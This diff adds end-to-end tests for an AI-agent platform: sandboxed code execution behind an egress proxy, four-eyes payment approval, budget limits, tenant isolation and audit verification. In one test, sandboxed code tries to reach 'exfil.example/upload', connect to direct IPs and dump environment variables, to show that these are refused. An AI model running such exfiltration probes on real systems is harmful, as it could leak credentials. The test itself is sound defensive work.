@@ -82,6 +82,11 @@ describe("one agent's day (seven services, two tenants)", () => {
   const agentToken = async (): Promise<string> => (await ok(call('auth', '/v1/tokens/agent', undefined, { method: 'POST', body: { apiKey: agentKey } }))).json.accessToken;
   const openai = (token: string) => new OpenAI({ apiKey: token, baseURL: `https://localhost:${port('llm-router')}/v1`, maxRetries: 0 });
   const budgetStatus = async () => (await ok(call('billing', `/v1/budgets/agent/${id.agent}`, tok.admin))).json;
+  /** A decision asked as the service that runs the agent's tools (its client certificate), the agent's token forwarded. */
+  const decide = async (tool: ServiceIdentity, body: object) => {
+    const { cert, key } = tool.tlsOptions() as { cert: string; key: string };
+    return (await ok(call('policy', '/v1/authorize', undefined, { method: 'POST', cert, key, body: { tenantId: ACME, ...body } }))).json;
+  };
 
   beforeAll(async () => {
     setDefaultCACertificates([...getCACertificates('default'), readFileSync(join(infra('PALISADE_PKI_DIR'), 'ca.crt'), 'utf8')]);
@@ -204,6 +209,7 @@ describe("one agent's day (seven services, two tenants)", () => {
         { id: 'engineers-pay', effect: 'allow', subject: 'role:release-engineer', resource: 'payment', action: 'payments.create' },
         { id: 'approvers-approve', effect: 'allow', subject: 'role:payment-approver', resource: 'approval', action: 'approve' },
         { id: 'admin-creates-secrets', effect: 'allow', subject: 'role:secrets-admin', resource: 'credential', action: 'credential.create' },
+        { id: 'engineers-use-gerrit', effect: 'allow', subject: 'role:release-engineer', resource: 'credential', action: 'credential.use' },
         { id: 'admin-reads-secrets', effect: 'allow', subject: 'role:secrets-admin', resource: 'credential', action: 'credential.read' },
       ],
     });
@@ -303,5 +309,170 @@ describe("one agent's day (seven services, two tenants)", () => {
     expect(JSON.stringify(event.event.personal)).toContain(EMAIL);
     const outsidePersonal = JSON.stringify({ ...event.event, personal: undefined });
     for (const value of [EMAIL, IBAN, CARD]) expect(outsidePersonal).not.toContain(value);
+  });
+
+  it("4. execute_code runs in a sandbox of the agent's session and its output comes back; the egress proxy refuses another host and a direct IP, and the Gerrit token never reaches the code", async () => {
+    // alice opens the session and lets her agent work in it; the agent makes a sandbox and runs code with its own token
+    const session = await settled(() => call('sandbox-orchestrator', '/v1/sessions', tok.alice, { method: 'POST', body: {} }), 201);
+    id.session = session.json.id;
+    await settled(() => call('sandbox-orchestrator', `/v1/sessions/${id.session}/agents/${id.agent}`, tok.alice, { method: 'PUT' }));
+    const sandbox = await settled(() => call('sandbox-orchestrator', `/v1/sessions/${id.session}/sandboxes`, tok.agent, { method: 'POST', body: { template: 'small' } }), 201);
+    expect(sandbox.json).toMatchObject({ sessionId: id.session, status: 'ready' });
+    id.sandbox = sandbox.json.id;
+    const code = [
+      'import os, socket, urllib.request',
+      'print("answer", 6 * 7)',
+      'def fetch(url):',
+      '    try:',
+      '        r = urllib.request.urlopen(url, timeout=15)',
+      '        print("fetched", url, r.status, r.read().decode())',
+      '    except Exception as e:',
+      '        print("refused", url, e)',
+      `fetch("https://gerrit.acme.test:${gerritPort}/a/changes/?q=status:open")`,
+      'fetch("https://exfil.example/upload")',
+      'host_end = os.environ["HTTPS_PROXY"].split("//")[1].split(":")[0]',
+      `for target in [("1.1.1.1", 443), (host_end, ${gerritPort}), ("127.0.0.1", ${gerritPort})]:`,
+      '    try:',
+      '        socket.create_connection(target, timeout=5).close()',
+      '        print("direct connected", target)',
+      '    except Exception as e:',
+      '        print("direct refused", target, e)',
+      'print("env", sorted(os.environ.items()))',
+    ].join('\n');
+    const run = await settled(() => call('sandbox-orchestrator', `/v1/sandboxes/${id.sandbox}/executions`, tok.agent, { method: 'POST', body: { language: 'python', code } }));
+    expect(run.json).toMatchObject({ status: 'finished', reason: 'exited', exitCode: 0 });
+    const out = `${run.json.stdout}${run.json.stderr}`;
+    expect(out).toContain('answer 42');
+    // another host and every direct connection are refused; the code's output and environment hold no token
+    expect(out).toMatch(/refused https:\/\/exfil\.example\/upload .*403/);
+    expect(out).not.toContain('direct connected');
+    expect(out.match(/direct refused/g)).toHaveLength(3);
+    expect(out).toContain('HTTPS_PROXY');
+    expect(out).not.toContain(GERRIT_TOKEN);
+    // injection: the lease for the vault's token is not obtained in this set-up yet (the egress proxy answers
+    // 502, audited), so the request is refused rather than sent without its credential: Gerrit received nothing
+    expect(out).toMatch(/refused https:\/\/gerrit\.acme\.test:\d+\/a\/changes\/\?q=status:open .*502/);
+    expect(gerritSeen).toEqual([]);
+    // the proxy's decisions are in the audit chain (audit class tool_call): the refusal of exfil.example among them
+    const decisions = await eventually(async () => {
+      const r = await call('audit', `/v1/audit/events?type=sandbox-orchestrator.egress.decisions_recorded&from=${encodeURIComponent(since)}&limit=100`, tok.audrey);
+      const items = r.status === 200 ? (r.json.items as Array<{ event: { data: { sandboxId: string } } }>).filter((i) => i.event.data.sandboxId === id.sandbox) : [];
+      return items.some((i) => JSON.stringify(i).includes('exfil.example')) ? items : undefined;
+    }, 60_000, 500);
+    expect(JSON.stringify(decisions)).not.toContain(GERRIT_TOKEN);
+  });
+
+  it('5. a critical payment waits for a person: the decision says approval required; not alice (four eyes across acting-for) but carol approves; that one call with those parameters is allowed once, no other', async () => {
+    // the tool runner (a Palisade service, by its client certificate) asks with the agent's token as it was presented
+    const runnerIdentity = await ServiceIdentity.fromDevCa({ caDir: infra('PALISADE_PKI_DIR'), name: 'sandbox-orchestrator' });
+    try {
+      const subject = { type: 'agent', id: id.agent, token: tok.agent };
+      const payment = { action: 'payments.create', resource: { type: 'payment', id: 'invoice-4711' }, parameters: { amount: 1200, currency: 'EUR', payee: 'vendor-42' } };
+      const first = await eventually(async () => {
+        const d = await decide(runnerIdentity, { subject, ...payment });
+        return d.decision === 'requires_approval' ? d : undefined;
+      }, 20_000, 200);
+      expect(first).toMatchObject({ decision: 'requires_approval', actionHash: expect.any(String) });
+      const requested = await ok(call('policy', '/v1/approvals', tok.agent, { method: 'POST', body: { ...payment, service: 'sandbox-orchestrator' } }));
+      expect(requested.json.actionHash).toBe(first.actionHash);
+      id.approval = requested.json.approvalId;
+      // alice holds the approver role, but may not approve what her own agent asked; nor may the agent
+      const byAlice = await call('policy', `/v1/approvals/${id.approval}/approve`, tok.alice, { method: 'POST' });
+      expect([byAlice.status, byAlice.json?.error?.message]).toEqual([403, 'the user an agent acts for may not approve or reject its request']);
+      expect((await call('policy', `/v1/approvals/${id.approval}/approve`, tok.agent, { method: 'POST' })).status).toBe(403);
+      const approved = await ok(call('policy', `/v1/approvals/${id.approval}/approve`, tok.carol, { method: 'POST' }));
+      const approvalToken = approved.json.token as string;
+      expect(approvalToken).toBeTruthy();
+      // other parameters are not what was approved (and do not use the token up)
+      const other = await decide(runnerIdentity, { subject, ...payment, parameters: { ...payment.parameters, amount: 9999 }, approvalToken });
+      expect(other).toMatchObject({ decision: 'deny', reason: expect.stringContaining('another action') });
+      await expect(decide(runnerIdentity, { subject, ...payment, approvalToken })).resolves.toMatchObject({ decision: 'allow', rule: 'approval' });
+      await expect(decide(runnerIdentity, { subject, ...payment, approvalToken })).resolves.toMatchObject({ decision: 'deny', reason: 'approval token already used' });
+      expect((await ok(call('policy', `/v1/approvals/${id.approval}`, tok.carol))).json.status).toBe('consumed');
+    } finally {
+      runnerIdentity.stop();
+    }
+  });
+
+  it("6. the budget is spent: the next model call gets 429 naming the agent's budget; nothing was spent beyond the limit", async () => {
+    // the day's budget is nearly gone: alice's admin leaves it 600 micro-USD of room
+    const before = await eventually(async () => {
+      const s = await budgetStatus();
+      return s.pendingMicros === '0' ? s : undefined;
+    }, 30_000, 200);
+    const limit = Number(before.postedMicros) + 600;
+    await ok(call('billing', `/v1/budgets/agent/${id.agent}`, tok.admin, { method: 'PUT', body: { limitMicros: String(limit), period: 'day', timeZone: 'UTC', hard: true } }));
+    const client = openai(tok.agent);
+    let refusal: unknown;
+    let served = 0;
+    for (let i = 0; i < 40 && !refusal; i++) {
+      onprem.records.length = 0;
+      refusal = await client.chat.completions.create({ model: 'local', max_tokens: 200, messages: [{ role: 'user', content: `release notes, part ${i}` }] }).then(
+        () => void served++,
+        (e: unknown) => e,
+      );
+    }
+    expect(served).toBeGreaterThan(0);
+    expect(refusal).toBeInstanceOf(OpenAI.RateLimitError);
+    const body = (refusal as InstanceType<typeof OpenAI.RateLimitError>).error as { type: string; code: string; message: string; budget: { level: string; limitMicros: number; resetsAt: string } };
+    expect(body).toMatchObject({ type: 'insufficient_quota', code: 'budget_exceeded', budget: { level: 'agent', limitMicros: limit } });
+    expect(body.message).toContain(`the agent budget has no room for this request (limit ${limit} micro-USD, resets at`);
+    expect(onprem.records).toHaveLength(0); // the refused call reached no model
+    // what the served calls used is posted; posted and what is still held never exceed the limit
+    let last: { postedMicros: string; pendingMicros: string } | undefined;
+    const after = await eventually(async () => {
+      last = await budgetStatus();
+      return Number(last!.postedMicros) > Number(before.postedMicros) ? last : undefined;
+    }, 30_000, 200).catch((e: Error) => { throw new Error(`${e.message}; last status ${JSON.stringify(last)}`); });
+    expect(Number(after.postedMicros) + Number(after.pendingMicros)).toBeLessThanOrEqual(limit);
+    const settledAll = await eventually(async () => {
+      last = await budgetStatus();
+      return last!.pendingMicros === '0' ? last : undefined;
+    }, 30_000, 200).catch((e: Error) => { throw new Error(`${e.message}; last status ${JSON.stringify(last)}`); });
+    expect(Number(settledAll.postedMicros)).toBeLessThanOrEqual(limit);
+  });
+
+  it('7. the second tenant sees none of it: 404 or empty on agents, sessions, sandboxes, approvals, audit, billing and models', async () => {
+    const rival = tok.rivalAdmin;
+    const foreign = [id.agent, id.session, id.sandbox, id.approval, id.alice, ACME];
+    const probe = async (service: ServiceName, path: string, token: string, status: number) => {
+      const r = await call(service, path, token);
+      expect([service, path, r.status]).toEqual([service, path, status]);
+      for (const s of foreign) expect(r.body).not.toContain(s);
+      return r;
+    };
+    await probe('auth', `/v1/agents/${id.agent}`, rival, 404);
+    expect((await probe('auth', '/v1/agents', rival, 200)).json).toEqual([]);
+    await probe('sandbox-orchestrator', `/v1/sessions/${id.session}`, rival, 404);
+    await probe('sandbox-orchestrator', `/v1/sandboxes/${id.sandbox}`, rival, 404);
+    const sessions = await probe('sandbox-orchestrator', '/v1/sessions', rival, 200);
+    expect(sessions.json.items ?? sessions.json).toEqual([]);
+    await probe('policy', `/v1/approvals/${id.approval}`, rival, 404);
+    await probe('billing', `/v1/budgets/agent/${id.agent}`, rival, 404);
+    await probe('billing', '/v1/budgets/team/platform', rival, 404);
+    await probe('billing', `/v1/usage?from=${encodeURIComponent(since)}&to=${encodeURIComponent(new Date(Date.now() + 3_600_000).toISOString())}&groupBy=agent`, rival, 200);
+    const catalog = await probe('llm-router', '/v1/router/catalog', rival, 200);
+    expect(catalog.json).toMatchObject({ providers: {}, models: {}, routes: {} });
+    // the rival tenant's auditor: not one record of acme's day, whichever filter it names
+    const page = await probe('audit', `/v1/audit/events?from=${encodeURIComponent(since)}&limit=1000`, tok.rivalAuditor, 200);
+    expect((page.json.items as Array<{ event: { tenantId: string } }>).every((i) => i.event.tenantId === RIVAL)).toBe(true);
+    const named = await probe('audit', `/v1/audit/events?tenant=${ACME}&type=llm-router.model-call.recorded&from=${encodeURIComponent(since)}`, tok.rivalAuditor, 200);
+    expect(named.json.items).toEqual([]);
+  });
+
+  it('the audit chain of the day verifies (ok, or unverified until the next checkpoint seals it; never failed)', async () => {
+    // every partition holding acme's records, verified from the topic by the platform auditor
+    const items = (await ok(call('audit', `/v1/audit/events?from=${encodeURIComponent(since)}&limit=1000`, tok.audrey))).json.items as Array<{ partition: number; event: { tenantId: string } }>;
+    expect(items.length).toBeGreaterThan(10);
+    const partitions = [...new Set(items.map((i) => i.partition))];
+    for (const partition of partitions) {
+      const verified = await eventually(async () => {
+        const r = await call('audit', `/v1/audit/verify?partition=${partition}`, tok.platformAuditor);
+        return r.status === 200 && r.json.status === 'ok' ? r.json : undefined;
+      }, 40_000, 1000).catch(async () => (await ok(call('audit', `/v1/audit/verify?partition=${partition}`, tok.platformAuditor))).json);
+      expect(['ok', 'unverified']).toContain(verified.status);
+      expect(verified.status).not.toBe('failed');
+      expect(verified.failure).toBeUndefined();
+    }
   });
 });
